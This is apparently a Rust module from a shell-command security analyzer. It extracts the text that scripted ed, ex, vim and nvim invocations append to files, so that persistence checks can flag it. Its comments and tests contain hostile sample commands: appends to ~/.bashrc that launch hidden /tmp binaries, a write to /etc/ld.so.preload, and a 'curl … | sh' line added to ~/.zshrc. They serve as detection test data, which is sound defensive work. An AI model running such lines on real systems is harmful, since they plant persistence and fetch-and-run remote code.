//! Files edited by a scripted line editor: `ed`/`red` reading commands on stdin, and
//! `ex`/`vim -es`/`vim -c …`/`nvim --headless +…` running ex commands. What the script adds to
//! the file is what lands in it, exactly as for `sed -i '$a …'`, so the same persistence and
//! sensitive-write checks apply (`ed -s ~/.bashrc <<< $'$a\n/tmp/.a &\n.\nw'`).

use super::sinks::InPlaceEdit;
use super::Command;

/// Is `name` a line editor whose scripts this module reads?
pub fn is_line_editor(name: &str) -> bool {
    // Distribution names (`vim.basic`) reach here already canonicalised to `vim`.
    matches!(name, "ed" | "red" | "ex" | "vim" | "vi" | "nvim")
}

/// The in-place edit a scripted `ed`/`ex`/`vim` makes. `piped` is text piped into it by an
/// earlier stage (`printf '$a\n…\n.\nw\n' | ed -s FILE`) when the caller knows it. An editor
/// started without a script (`vim ~/.bashrc`) is interactive: not an edit this module can read.
pub fn editor_edit(cmd: &Command, piped: Option<&str>) -> Option<InPlaceEdit> {
    let name = cmd.name();
    if !is_line_editor(name) {
        return None;
    }
    let args = cmd.args();
    let stdin = cmd.stdin_text.as_ref().map(|w| w.text.as_str()).or(piped);
    let mut files = Vec::new();
    let mut added = Vec::new();
    if matches!(name, "ed" | "red") {
        files.extend(
            args.iter()
                .map(|a| a.text.as_str())
                .filter(|t| !t.starts_with('-'))
                .take(1)
                .map(str::to_string),
        );
        added.extend(ed_added_text(stdin?));
        return (!files.is_empty()).then_some(InPlaceEdit { files, added });
    }
    // ex / vim: `-c CMD`, `--cmd CMD`, `+CMD`, and ex commands on stdin in silent mode (`-s`,
    // `-es`, `-Es`, or the program named `ex`).
    let mut commands: Vec<&str> = Vec::new();
    let mut silent = name == "ex";
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        match t {
            "-c" | "--cmd" | "-S" => {
                if t != "-S" {
                    commands.extend(args.get(i + 1).map(|w| w.text.as_str()));
                }
                i += 2;
                continue;
            }
            "-u" | "-U" | "-i" | "-T" | "-t" | "-q" | "-w" | "-W" | "--listen" => {
                i += 2;
                continue;
            }
            "--" => {
                files.extend(args[i + 1..].iter().map(|a| a.text.clone()));
                break;
            }
            _ => {}
        }
        if let Some(c) = t.strip_prefix('+') {
            // `+42` only moves the cursor.
            if !c.is_empty() && !c.chars().all(|ch| ch.is_ascii_digit()) {
                commands.push(c);
            }
        } else if let Some(flags) = t.strip_prefix('-').filter(|f| !f.starts_with('-')) {
            if flags.contains('s') || flags.contains('e') || flags.contains('E') {
                silent = true;
            }
        } else if !t.starts_with('-') {
            files.push(t.to_string());
        }
        i += 1;
    }
    if silent {
        if let Some(text) = stdin {
            added.extend(ed_added_text(text));
            commands.extend(text.lines());
        }
    }
    if commands.is_empty() && !(silent && stdin.is_some()) {
        return None;
    }
    for c in commands {
        // `-c 'cmd1 | cmd2'` runs several ex commands.
        for part in split_bars(c) {
            added.extend(ex_added_line(part.trim()));
        }
    }
    (!files.is_empty()).then_some(InPlaceEdit { files, added })
}

/// Lines an ed script inserts: the text after an `a`, `i` or `c` command (with an optional
/// address: `$a`, `0i`, `1,3c`) up to the line holding a single `.`.
pub fn ed_added_text(script: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut lines = script.lines();
    while let Some(line) = lines.next() {
        let cmd = line.trim().trim_start_matches(|c: char| {
            c.is_ascii_digit() || matches!(c, '$' | ',' | '.' | ';' | '+' | '-' | '/')
        });
        if !matches!(cmd, "a" | "i" | "c") {
            continue;
        }
        let body: Vec<&str> = lines.by_ref().take_while(|l| *l != ".").collect();
        if !body.is_empty() {
            out.push(body.join("\n"));
        }
    }
    out
}

/// The text one ex command inserts: `put ="TEXT"` / `put ='TEXT'`, `call append(LNUM, 'TEXT')`,
/// `call setline(LNUM, 'TEXT')`, `normal GoTEXT` (and `O`/`A`/`I`), or `$a TEXT` in the ex form.
fn ex_added_line(command: &str) -> Option<String> {
    let c = command.trim_start_matches(|ch: char| {
        ch.is_ascii_digit() || matches!(ch, '$' | ',' | '.' | '%' | ':')
    });
    let c = c.trim_start();
    if let Some(rest) = c.strip_prefix("put").or_else(|| c.strip_prefix("pu")) {
        let rest = rest.trim_start_matches('!').trim_start();
        let value = rest.strip_prefix('=')?.trim();
        return unquote(value);
    }
    for f in ["append(", "setline("] {
        if let Some(pos) = c.find(f) {
            let inner = c[pos + f.len()..].trim_end().trim_end_matches(')');
            let (_, value) = inner.split_once(',')?;
            let value = value.trim();
            // A list of lines: `['a', 'b']`.
            let value = value.trim_start_matches('[').trim_end_matches(']');
            let parts: Vec<String> = value.split(',').filter_map(|v| unquote(v.trim())).collect();
            return (!parts.is_empty()).then(|| parts.join("\n"));
        }
    }
    if let Some(keys) = c
        .strip_prefix("normal!")
        .or_else(|| c.strip_prefix("normal"))
        .or_else(|| c.strip_prefix("norm"))
    {
        let keys = keys.trim_start();
        let keys = keys.trim_start_matches(['G', 'g']);
        let text = keys.strip_prefix(['o', 'O', 'A', 'I', 'a', 'i'])?;
        return (!text.is_empty()).then(|| text.to_string());
    }
    if let Some(text) = c
        .strip_prefix("a ")
        .or_else(|| c.strip_prefix("i "))
        .or_else(|| c.strip_prefix("a!"))
    {
        return (!text.trim().is_empty()).then(|| text.trim_start().to_string());
    }
    None
}

/// An ex command line split at the `|` bars that separate commands (not those inside quotes).
fn split_bars(line: &str) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut quote: Option<char> = None;
    let mut start = 0;
    for (i, c) in line.char_indices() {
        match (quote, c) {
            (None, '"' | '\'') => quote = Some(c),
            (Some(q), _) if c == q => quote = None,
            (None, '|') => {
                parts.push(&line[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    parts.push(&line[start..]);
    parts
}

/// The string a vim expression literal holds (`"…"` with backslash escapes, `'…'` with `''`).
fn unquote(value: &str) -> Option<String> {
    if let Some(inner) = value.strip_prefix('"').and_then(|v| v.strip_suffix('"')) {
        return Some(
            inner
                .replace("\\\"", "\"")
                .replace("\\n", "\n")
                .replace("\\\\", "\\"),
        );
    }
    value
        .strip_prefix('\'')
        .and_then(|v| v.strip_suffix('\''))
        .map(|inner| inner.replace("''", "'"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn edit_of(line: &str) -> Option<InPlaceEdit> {
        let s = crate::shell::analyze(line);
        s.commands.iter().find_map(|c| editor_edit(c, None))
    }

    #[test]
    fn ed_appends_through_a_heredoc_or_here_string() {
        let e =
            edit_of("ed -s ~/.bashrc <<'EOF'\n$a\ntrap \"/var/tmp/.t/run &\" EXIT\n.\nw\nq\nEOF")
                .expect("an edit");
        assert_eq!(e.files, vec!["~/.bashrc"]);
        assert_eq!(e.added, vec!["trap \"/var/tmp/.t/run &\" EXIT"]);
        let e = edit_of("ed -s /etc/ld.so.preload <<< $'a\\n/tmp/.l.so\\n.\\nw'").expect("an edit");
        assert_eq!(e.added, vec!["/tmp/.l.so"]);
    }

    #[test]
    fn ex_and_vim_commands_add_text() {
        let e = edit_of("ex -s +'$put =\"/tmp/.a &\"' +wq ~/.bashrc").expect("an edit");
        assert_eq!(
            (e.files, e.added),
            (vec!["~/.bashrc".to_string()], vec!["/tmp/.a &".to_string()])
        );
        let e = edit_of("vim -es -c '$put =\"nohup /tmp/.a &\"' -c wq ~/.bashrc").expect("an edit");
        assert_eq!(e.added, vec!["nohup /tmp/.a &"]);
        let e = edit_of(
            "nvim --headless -c \"call append('$', 'curl -s x.io/p | sh')\" -c wq ~/.zshrc",
        )
        .expect("an edit");
        assert_eq!(e.added, vec!["curl -s x.io/p | sh"]);
        let e = edit_of("vim -c 'normal Goalias ls=rm' -c wq ~/.bashrc").expect("an edit");
        assert_eq!(e.added, vec!["alias ls=rm"]);
    }

    #[test]
    fn interactive_editors_and_read_only_scripts_are_not_edits() {
        assert!(edit_of("vim ~/.bashrc").is_none());
        assert!(edit_of("nvim +42 src/main.rs").is_none());
        let e = edit_of("vim -es -c '%s/foo/bar/g' -c wq notes.txt").expect("an edit");
        assert!(e.added.is_empty());
        let e = edit_of("ed -s notes.txt <<< $',p\\nq'").expect("an edit");
        assert!(e.added.is_empty());
    }
}
